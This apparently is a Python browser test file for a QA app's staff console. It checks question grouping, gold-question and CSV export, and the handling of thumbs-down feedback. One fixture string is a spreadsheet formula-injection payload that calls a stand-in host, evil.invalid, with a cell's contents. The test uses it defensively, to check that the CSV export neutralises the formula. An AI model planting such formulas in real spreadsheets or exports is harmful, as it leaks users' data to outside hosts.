"""The staff console in a real browser (as tests/test_browser.py): questions the reports did not answer appear on the
staff page's Questions tab, grouped however they were worded, exportable as gold questions and as CSV a spreadsheet
will not run; a thumbs-down appears on the Feedback tab with its question, answer, sources and comment, and can be
marked handled."""
from __future__ import annotations

import csv
import io
import json

import pytest

from qa.feedback import FeedbackStore
from running_app import app_db
from staff_site import staff_site
from test_browser import Site, expect

pytestmark = [pytest.mark.browser, pytest.mark.slow]
PASSWORD = "staff-secret-for-the-console-browser-31f0"
SOURDOUGH = ["What is the recipe for a good sourdough bread?", "How do I bake sourdough bread?"]
HOSTILE = '=HYPERLINK("https://evil.invalid/?"&A1,"Who won the 1998 world cup?")'
COMMENT = "The quote names the authors, but I asked who funded it."


@pytest.fixture(scope="module")
def console_site(seed_index, tmp_path_factory):
    """(URL, the app's database) of the app with its staff page on."""
    root = tmp_path_factory.mktemp("console-site")
    with staff_site(seed_index, root, PASSWORD) as started:
        yield started[0], app_db(root / "app.log")


def _staff_page(browser, url: str):
    context = browser.new_context(viewport={"width": 1280, "height": 1000}, accept_downloads=True)
    page = context.new_page()
    page.goto(f"{url}staff")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    return context, page


def test_a_refused_question_appears_in_its_group_and_exports_as_gold_and_inert_csv(browser, console_site):
    url, _ = console_site
    reader = Site(browser, url)
    try:
        for question in SOURDOUGH + [HOSTILE]:
            assert "qa-abstained" in reader.ask(question).get_attribute("class"), f"{question!r} was answered"
    finally:
        reader.close()

    context, page = _staff_page(browser, url)
    try:
        page.get_by_role("tab", name="Questions").click(timeout=60_000)
        groups = page.locator("#qa-failed-groups")
        sourdough = groups.locator("tr", has_text="sourdough")
        expect(sourdough).to_have_count(1, timeout=60_000)  # two wordings, one group
        cells = sourdough.locator("td").all_inner_texts()
        assert cells[:3] == ["2", "2", "0"], cells  # asked twice, refused twice, rated down by none
        assert {cells[3], cells[4]} == set(SOURDOUGH), cells
        page.screenshot(path="test-artifacts/staff-questions.png", full_page=True)

        page.locator("#qa-gold-choice input").click()
        page.get_by_role("option", name="sourdough", exact=False).first.click()
        page.get_by_role("button", name="Export as gold questions").click()
        link = page.locator('a[download$=".jsonl"]').first
        link.wait_for(timeout=30_000)
        gold = [json.loads(line) for line in context.request.get(link.get_attribute("href")).text().splitlines()]
        assert [(g["question"], g["answerable"]) for g in gold] == [(q, False) for q in SOURDOUGH]
        assert len({g["id"] for g in gold}) == 2

        exported = page.locator('#qa-exports a[download="refused-or-rated-down-30d.csv"]')
        rows = list(csv.DictReader(io.StringIO(context.request.get(exported.get_attribute("href")).text())))
        hostile = next(r for r in rows if "evil.invalid" in r["question"])
        assert hostile["question"] == "'" + HOSTILE  # a spreadsheet shows it as text, never runs it
    finally:
        context.close()


def test_a_thumbs_down_appears_in_feedback_with_its_answer_and_can_be_marked_handled(browser, console_site):
    url, db = console_site
    reader = Site(browser, url)
    try:
        answer = reader.ask("Who prepared the report?")
        reader.page.locator("#qa-chat").get_by_role("button", name="Dislike").last.click()
        reader.page.locator("#qa-comment textarea").fill(COMMENT)
        reader.page.locator("#qa-comment").get_by_role("button", name="Send comment").click()
        reader.page.get_by_text("Thanks: your comment is saved.").wait_for()
        quote = answer.locator(".qa-quote").inner_text()
    finally:
        reader.close()
    (entry,) = [e for e in FeedbackStore(db).entries() if e.question == "Who prepared the report?"]

    context, page = _staff_page(browser, url)
    try:
        page.get_by_role("tab", name="Feedback").click(timeout=60_000)
        card = page.locator(f'#qa-feedback-list article[data-entry="{entry.id}"]')
        expect(card).to_contain_text("Who prepared the report?", timeout=30_000)
        text = card.inner_text()
        assert COMMENT in text and "Mark Manantan" in text and quote.split("[")[0].strip()[:40] in text
        assert "2020 Asia Pacific Space Diplomacy Dialogue" in text and "page 1" in text  # its source
        page.screenshot(path="test-artifacts/staff-feedback.png", full_page=True)

        page.locator("#qa-handle-choice input").click()
        page.get_by_role("option", name=f"#{entry.id}: Who prepared the report?").click()
        page.get_by_role("button", name="Mark handled").click()
        expect(page.locator("#qa-feedback-summary")).to_contain_text(f"Marked #{entry.id} handled.", timeout=30_000)
        expect(card).to_have_count(0)
    finally:
        context.close()
    (handled,) = [e for e in FeedbackStore(db).entries() if e.id == entry.id]
    assert handled.handled_at
